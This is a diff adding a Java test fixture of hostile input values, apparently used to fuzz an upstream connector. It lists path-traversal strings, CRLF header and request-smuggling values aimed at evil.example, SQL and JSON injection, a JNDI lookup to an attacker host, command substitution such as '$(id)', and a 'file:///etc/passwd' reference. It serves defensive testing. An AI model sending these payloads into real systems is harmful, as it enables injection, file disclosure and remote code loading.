@@ -1,0 +1,117 @@
+// SPDX-License-Identifier: Apache-2.0
+package io.agentport.connector.upstream;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import java.util.List;
+
+/** Values that would mean something in a place that is not their own. */
+final class Hostile {
+    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
+
+    static final List<String> TEXTS = List.of(
+            "",
+            ".",
+            "..",
+            "../..",
+            "../admin",
+            "..%2fadmin",
+            "%2e%2e",
+            "%2e",
+            "%00",
+            "%",
+            "/",
+            "//evil.example",
+            "\\",
+            "\\..\\",
+            "a/b",
+            "a?x=1",
+            "?x=1",
+            "#x",
+            "&x=1",
+            "a&amount=1",
+            "a=b",
+            "=",
+            ";x=1",
+            "a;b",
+            "+",
+            "a b",
+            " ",
+            "[x]",
+            "][",
+            "a]=1&b[",
+            "\r\n",
+            "a\r\nX-Evil: 1",
+            "a\r\n\r\nGET /admin HTTP/1.1\r\nHost: evil.example\r\n\r\n",
+            "\n",
+            "\t",
+            "\u0000",
+            "a\u0000b",
+            "\u007f",
+            "\u0085",
+            "\u2028",
+            "\u2029",
+            "\u202eabc",
+            "\u200b",
+            "\ufeff",
+            "\uff0f",
+            "\u2215",
+            "\uff0e\uff0e",
+            "\u010a",
+            "\u560a",
+            "\ud83d\ude00",
+            "\udb40\udc41",
+            "e\u0301",
+            "ß",
+            "\"",
+            "'",
+            "'; drop table x; --",
+            "\"}",
+            "\",\"admin\":true,\"x\":\"",
+            "\"}){deleteAll{ok}}#",
+            "${jndi:ldap://evil.example}",
+            "{{7*7}}",
+            "$(id)",
+            "`id`",
+            "<script>",
+            "*",
+            "null",
+            "true",
+            "0",
+            "http://evil.example/",
+            "https://user@evil.example/",
+            "file:///etc/passwd",
+            "a@b.example\r\nBcc: c@d.example",
+            "=?utf-8?q?x?=",
+            "x".repeat(5_000));
+    /** For the places within a list or an object, of which there are many. */
+    static final List<String> TEXTS_WITHIN = List.of(
+            "",
+            "..",
+            "%2e",
+            "/",
+            "a&amount=1",
+            "a]=1&b[",
+            "][",
+            "a\r\nX-Evil: 1",
+            "\u0000",
+            "\u2028",
+            "\"}",
+            "\ud83d\ude00");
+
+    static final List<JsonNode> OTHERS = List.of(
+            NODES.nullNode(),
+            NODES.booleanNode(true),
+            NODES.numberNode(-1),
+            NODES.numberNode(1.5),
+            NODES.numberNode(1e300),
+            NODES.arrayNode(),
+            NODES.objectNode(),
+            NODES.arrayNode().add("a").add("b&c=d"),
+            NODES.arrayNode().add(NODES.arrayNode().add("a")),
+            NODES.objectNode().put("a", "b"),
+            NODES.objectNode().put("a]&x[", "b"),
+            NODES.objectNode().set("gte", NODES.objectNode().put("x", 1)));
+
+    private Hostile() {}
+}
